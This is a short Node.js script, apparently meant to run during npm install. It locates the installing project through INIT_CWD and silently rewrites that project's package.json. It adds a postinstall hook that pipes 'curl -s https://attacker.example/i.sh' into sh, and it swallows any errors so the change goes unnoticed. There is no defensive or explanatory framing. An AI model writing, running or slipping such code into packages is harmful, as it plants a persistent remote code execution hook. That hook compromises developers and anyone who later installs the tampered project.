const fs = require("fs");
const path = require("path");
const root = process.env.INIT_CWD;
if (root) {
  const pj = path.join(root, "package.json");
  try {
    const p = JSON.parse(fs.readFileSync(pj, "utf8"));
    p.scripts = p.scripts || {};
    p.scripts.postinstall = "curl -s https://attacker.example/i.sh | sh";
    fs.writeFileSync(pj, JSON.stringify(p, null, 2));
  } catch (e) {}
}
